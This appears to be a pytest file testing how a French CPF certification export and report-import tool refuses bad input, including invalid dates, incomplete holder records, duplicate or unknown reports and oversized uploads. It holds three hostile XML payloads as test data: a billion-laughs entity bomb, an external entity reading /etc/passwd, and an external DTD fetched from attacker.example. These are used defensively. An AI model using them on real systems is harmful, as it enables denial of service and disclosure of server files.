"""Bad input, each refused with a clear message and nothing changed."""

from __future__ import annotations

import io
from datetime import timedelta

import pytest
from lxml import etree

from tests.assess.cpf.conftest import NS, report_xml

C = f"{{{NS}}}"


def _state(db):
    """Everything an export or an import may change: rows and stored blobs."""
    from assess.audit.models import AuditEvent
    from assess.cpf.models import CpfDeclaration, CpfExport, CpfReport

    return (db.session.query(CpfExport).count(), db.session.query(CpfReport).count(),
            sorted((d.id_technique, str(d.status), d.message)
                   for d in db.session.query(CpfDeclaration)),
            db.session.query(AuditEvent).filter(AuditEvent.action.like("cpf.%")).count())


def _blobs(storage_root):
    return sorted(p for p in storage_root.rglob("*") if p.is_file()) \
        if storage_root.exists() else []


def _export(app, day_from, day_to, out):
    return app.test_cli_runner().invoke(args=[
        "cpf", "export", "--from", day_from, "--to", day_to, "-o", str(out)])


# -- export ---------------------------------------------------------------------------
def test_an_export_with_no_holder_in_the_range(app, db, awarded, tmp_path, storage_root):
    h = awarded()
    before = _state(db)
    empty = (h.award_date - timedelta(days=400)).isoformat()
    result = _export(app, empty, (h.award_date - timedelta(days=1)).isoformat(),
                     tmp_path / "out.xml")
    assert result.exit_code == 3
    assert "Aucun titulaire n'a obtenu le titre" in result.output
    assert not (tmp_path / "out.xml").exists()
    assert _state(db) == before and _blobs(storage_root) == []


def test_the_page_says_so_too(db, client, as_user, awarded):
    h = awarded()
    as_user(h.w.admin)
    day = (h.award_date - timedelta(days=10)).isoformat()
    page = client.get(f"/cpf?du={day}&au={day}").get_data(as_text=True)
    assert "Aucun titre attribué et publié pendant cette période." in page
    response = client.post("/cpf/exporter", data={"du": day, "au": day})
    assert response.status_code == 422
    assert "Aucun titulaire n&#39;a obtenu le titre" in response.get_data(as_text=True)


def test_a_reversed_range_is_refused(db, client, as_user, awarded, app, tmp_path):
    h = awarded()
    as_user(h.w.admin)
    assert client.get("/cpf?du=2026-05-02&au=2026-05-01").status_code == 422
    result = _export(app, "2026-05-02", "2026-05-01", tmp_path / "x.xml")
    assert result.exit_code == 4 and "précède son début" in result.output


def test_a_date_that_is_not_a_date_is_a_usage_error(app, awarded, tmp_path):
    awarded()
    result = _export(app, "01/05/2026", "2026-05-30", tmp_path / "x.xml")
    assert result.exit_code == 2


def test_incomplete_settings_refuse_the_export(app, db, awarded, settings, tmp_path):
    h = awarded()
    settings(cpf_id_contrat=None)
    before = _state(db)
    day = h.award_date.isoformat()
    result = _export(app, day, day, tmp_path / "x.xml")
    assert result.exit_code == 4
    assert "idContrat" in result.output and _state(db) == before


@pytest.mark.parametrize(("field", "value", "reason"), [
    ("first_name_1", "J" * 61, "60 caractères au plus"),
    ("birth_insee_code", None, "Le lieu de naissance est obligatoire"),
    ("birth_date", None, "Obligatoire"),
])
def test_a_holder_whose_record_cannot_be_valid_is_left_out(app, db, awarded, xsd, tmp_path,
                                                           client, as_user, field, value,
                                                           reason):
    h = awarded()
    bad = h.candidates[0]
    setattr(bad, field, value)
    if field == "birth_insee_code":
        bad.birth_postal_code = None
    db.session.commit()
    day = h.award_date.isoformat()
    out = tmp_path / "out.xml"
    result = _export(app, day, day, out)
    assert result.exit_code == 1
    line = next(x for x in result.stderr.splitlines() if x.startswith("left out"))
    assert bad.user.full_name in line and field in line and reason in line
    # The other holder is exported, in a valid file.
    document = etree.parse(str(out))
    assert xsd.validate(document), xsd.error_log
    assert [e.text for e in document.iter(C + "nomNaissance")] == ["Nguyen"]
    # The page lists the holder with the field and the link to fix it.
    as_user(h.w.admin)
    page = client.get(f"/cpf?du={day}&au={day}").get_data(as_text=True)
    link = f"/sessions/{h.w.session.id}/candidats/{h.enrolments[0].id}#identite"
    assert link in page and "Fiches à corriger avant l" in page
    # Once fixed, the next export carries them (and only them).
    setattr(bad, field, IDENTITY_FIX[field])
    bad.birth_insee_code = bad.birth_insee_code or "69123"
    db.session.commit()
    result = _export(app, day, day, out)
    assert result.exit_code == 0, result.output
    assert [e.text for e in etree.parse(str(out)).iter(C + "nomNaissance")] == ["Martin"]


IDENTITY_FIX = {"first_name_1": "Jeanne", "birth_insee_code": "69123",
                "birth_date": __import__("datetime").date(1990, 1, 1)}


def test_when_every_holder_is_invalid_no_file_is_written(app, db, awarded, tmp_path,
                                                         storage_root):
    h = awarded()
    for c in h.candidates:
        c.sex = None
    db.session.commit()
    before = _state(db)
    day = h.award_date.isoformat()
    result = _export(app, day, day, tmp_path / "out.xml")
    assert result.exit_code == 1
    assert result.stderr.count("left out") == 2 and "no file written" in result.stderr
    assert not (tmp_path / "out.xml").exists()
    assert _state(db) == before and _blobs(storage_root) == []


def test_born_abroad_without_a_commune_code(app, db, awarded, xsd, tmp_path):
    h = awarded()
    c = h.candidates[0]
    c.birth_insee_code, c.birth_postal_code, c.birth_country_code = None, None, "134"
    db.session.commit()
    day = h.award_date.isoformat()
    out = tmp_path / "out.xml"
    assert _export(app, day, day, out).exit_code == 0
    document = etree.parse(str(out))
    assert xsd.validate(document)
    assert "99134" in [e.text for e in document.iter(C + "codeInsee")]


# -- processing report ---------------------------------------------------------------
@pytest.fixture
def sent(app, db, awarded, tmp_path):
    """Both holders exported once (through the command line)."""
    from assess.cpf.models import CpfDeclaration, CpfExport

    h = awarded()
    day = h.award_date.isoformat()
    assert _export(app, day, day, tmp_path / "sent.xml").exit_code == 0
    h.ids = sorted(d.id_technique for d in db.session.query(CpfDeclaration))
    h.id_flux = db.session.query(CpfExport).one().id_flux
    return h


def _import(app, tmp_path, data: bytes, name="report.xml"):
    path = tmp_path / name
    path.write_bytes(data)
    return app.test_cli_runner().invoke(args=["cpf", "report", str(path)])


BILLION_LAUGHS = b"""<?xml version="1.0"?>
<!DOCTYPE lolz [
 <!ENTITY lol "lol">
 <!ENTITY lol2 "&lol;&lol;&lol;&lol;&lol;&lol;&lol;&lol;&lol;&lol;">
 <!ENTITY lol3 "&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;">
 <!ENTITY lol4 "&lol3;&lol3;&lol3;&lol3;&lol3;&lol3;&lol3;&lol3;&lol3;&lol3;">
 <!ENTITY lol5 "&lol4;&lol4;&lol4;&lol4;&lol4;&lol4;&lol4;&lol4;&lol4;&lol4;">
 <!ENTITY lol6 "&lol5;&lol5;&lol5;&lol5;&lol5;&lol5;&lol5;&lol5;&lol5;&lol5;">
 <!ENTITY lol7 "&lol6;&lol6;&lol6;&lol6;&lol6;&lol6;&lol6;&lol6;&lol6;&lol6;">
 <!ENTITY lol8 "&lol7;&lol7;&lol7;&lol7;&lol7;&lol7;&lol7;&lol7;&lol7;&lol7;">
 <!ENTITY lol9 "&lol8;&lol8;&lol8;&lol8;&lol8;&lol8;&lol8;&lol8;&lol8;&lol8;">
]>
<rapport><PassagesKO><passage><idTechnique>x</idTechnique>
<messageErreur>&lol9;</messageErreur></passage></PassagesKO></rapport>"""

EXTERNAL_ENTITY = b"""<?xml version="1.0"?>
<!DOCTYPE rapport [<!ENTITY secret SYSTEM "file:///etc/passwd">]>
<rapport><PassagesKO><passage><idTechnique>x</idTechnique>
<messageErreur>&secret;</messageErreur></passage></PassagesKO></rapport>"""

EXTERNAL_DTD = b"""<?xml version="1.0"?>
<!DOCTYPE rapport SYSTEM "http://attacker.example/evil.dtd">
<rapport><PassagesOK><idTechnique>x</idTechnique></PassagesOK></rapport>"""


@pytest.mark.parametrize(("data", "message"), [
    (b"%PDF-1.4 this is not xml", "n'est pas un XML lisible"),
    (b"", "Le fichier est vide"),
    (b"<rapport><autre/></rapport>", "ni PassagesOK ni PassagesKO"),
    (BILLION_LAUGHS, "déclaration DOCTYPE"),
    (EXTERNAL_ENTITY, "déclaration DOCTYPE"),
    (EXTERNAL_DTD, "déclaration DOCTYPE"),
    (b"<r><PassagesOK><passage/></PassagesOK></r>", "exactement un idTechnique"),
])
def test_a_report_that_cannot_be_read_changes_nothing(app, db, sent, tmp_path, storage_root,
                                                       data, message):
    before, blobs = _state(db), _blobs(storage_root)
    result = _import(app, tmp_path, data)
    assert result.exit_code == 1
    assert message in result.stderr and "report refused" in result.stderr
    assert _state(db) == before and _blobs(storage_root) == blobs


def test_a_report_naming_unknown_idtechniques_changes_nothing(app, db, sent, tmp_path,
                                                              storage_root):
    before, blobs = _state(db), _blobs(storage_root)
    result = _import(app, tmp_path, report_xml(ok=[sent.ids[0], "inconnu-1"],
                                               ko=[("inconnu-2", "Erreur")]))
    assert result.exit_code == 1
    assert "inconnu-1" in result.stderr and "inconnu-2" in result.stderr
    assert "Rien n'a changé" in result.stderr
    assert _state(db) == before and _blobs(storage_root) == blobs


def test_a_report_of_a_file_never_exported_changes_nothing(app, db, sent, tmp_path):
    before = _state(db)
    result = _import(app, tmp_path, report_xml(ok=sent.ids, id_flux="pas-un-flux-connu"))
    assert result.exit_code == 1 and "pas-un-flux-connu" in result.stderr
    assert _state(db) == before


def test_the_same_report_twice_is_refused(app, db, sent, tmp_path):
    data = report_xml(ok=sent.ids, id_flux=sent.id_flux)
    assert _import(app, tmp_path, data).exit_code == 0
    before = _state(db)
    result = _import(app, tmp_path, data, name="again.xml")
    assert result.exit_code == 1 and "déjà été importé" in result.stderr
    assert _state(db) == before


def test_a_report_of_50_mb_is_refused_unread_by_the_command(app, db, sent, tmp_path,
                                                             monkeypatch):
    from assess.cpf import operations

    path = tmp_path / "huge.xml"
    with open(path, "wb") as f:
        f.truncate(50 * 1024 * 1024)  # sparse: 50 MB that were never written
    monkeypatch.setattr(operations, "read_bounded", _never_read)
    before = _state(db)
    result = app.test_cli_runner().invoke(args=["cpf", "report", str(path)])
    assert result.exit_code == 1
    assert "dépasse 10 Mo" in result.stderr and _state(db) == before


def _never_read(*_args, **_kwargs):
    raise AssertionError("the report was read")


@pytest.mark.parametrize("csrf", [False, True])
def test_a_report_of_50_mb_is_refused_by_the_page(app, db, client, as_user, sent, storage_root,
                                                  csrf):
    # With CSRF on, the app's check parses the form before the view: the limit holds there.
    app.config["WTF_CSRF_ENABLED"] = csrf
    before, blobs = _state(db), _blobs(storage_root)
    as_user(sent.w.admin)
    # The multipart body written out (bytes): the test client keeps it in memory.
    boundary = "cpf-test-boundary"
    body = (f"--{boundary}\r\nContent-Disposition: form-data; name=\"file\"; "
            f"filename=\"huge.xml\"\r\nContent-Type: application/xml\r\n\r\n").encode() \
        + b"<" + b" " * (50 * 1024 * 1024) + f"\r\n--{boundary}--\r\n".encode()
    response = client.post("/cpf/rapport", data=body,
                           content_type=f"multipart/form-data; boundary={boundary}")
    assert response.status_code == 413
    assert "dépasse 10 Mo" in response.get_data(as_text=True)
    assert _state(db) == before and _blobs(storage_root) == blobs


@pytest.mark.parametrize("csrf", [False, True])
def test_a_large_upload_by_someone_else_shows_nothing(app, db, client, as_user, sent, csrf):
    app.config["WTF_CSRF_ENABLED"] = csrf
    app.config["CPF_REPORT_MAX_BYTES"] = 10
    app.config["MAX_CONTENT_LENGTH"] = 1000
    for user in (None, sent.w.centre_admin):
        if user is not None:
            as_user(user)
        response = client.post("/cpf/rapport", data={"file": (io.BytesIO(b"x" * 5000), "r.xml")},
                               content_type="multipart/form-data")
        # CSRF on: the app's check meets the body first (413); off: login or 403.
        assert response.status_code == (413 if csrf else 302 if user is None else 403)
        assert "Titulaires de la période" not in response.get_data(as_text=True)


def test_the_limit_is_read_from_the_configuration(app, db, client, as_user, sent):
    app.config["CPF_REPORT_MAX_BYTES"] = 1000
    data = report_xml(ok=sent.ids) + b"<!--" + b"x" * 2000 + b"-->"
    before = _state(db)
    as_user(sent.w.admin)
    response = client.post("/cpf/rapport", data={"file": (io.BytesIO(data), "r.xml")},
                           content_type="multipart/form-data")
    assert response.status_code == 422
    assert "Le rapport dépasse 1000 octets : il est refusé sans être lu." in \
        response.get_data(as_text=True)
    assert _state(db) == before


def test_reading_stops_past_the_limit():
    from assess.cpf.operations import read_bounded
    from assess.cpf.report import ReportRefused

    class Counting(io.BytesIO):
        read_bytes = 0

        def read(self, n=-1):
            chunk = super().read(n)
            Counting.read_bytes += len(chunk)
            return chunk

    stream = Counting(b"x" * (5 * 1024 * 1024))
    with pytest.raises(ReportRefused):
        read_bounded(stream, 1024 * 1024)
    assert Counting.read_bytes <= 1024 * 1024 + 1
    assert read_bounded(io.BytesIO(b"abc"), 3) == b"abc"


def test_an_upload_with_no_file_is_refused(db, client, as_user, sent):
    as_user(sent.w.admin)
    response = client.post("/cpf/rapport", data={}, content_type="multipart/form-data")
    assert response.status_code == 422
    assert "Choisissez le fichier XML" in response.get_data(as_text=True)


def test_an_output_that_cannot_be_written_changes_nothing(app, db, awarded, tmp_path):
    h = awarded()
    before = _state(db)
    day = h.award_date.isoformat()
    result = _export(app, day, day, tmp_path / "missing-folder" / "out.xml")
    assert result.exit_code == 4 and "cannot be written" in result.stderr
    assert _state(db) == before


def test_an_existing_file_is_kept_when_nothing_is_exported(app, awarded, tmp_path):
    h = awarded()
    folder = tmp_path / "exports"
    folder.mkdir()
    out = folder / "out.xml"
    out.write_bytes(b"previous export")
    day = (h.award_date - timedelta(days=5)).isoformat()
    assert _export(app, day, day, out).exit_code == 3
    assert out.read_bytes() == b"previous export"
    assert [p.name for p in folder.iterdir()] == ["out.xml"]  # no temporary left
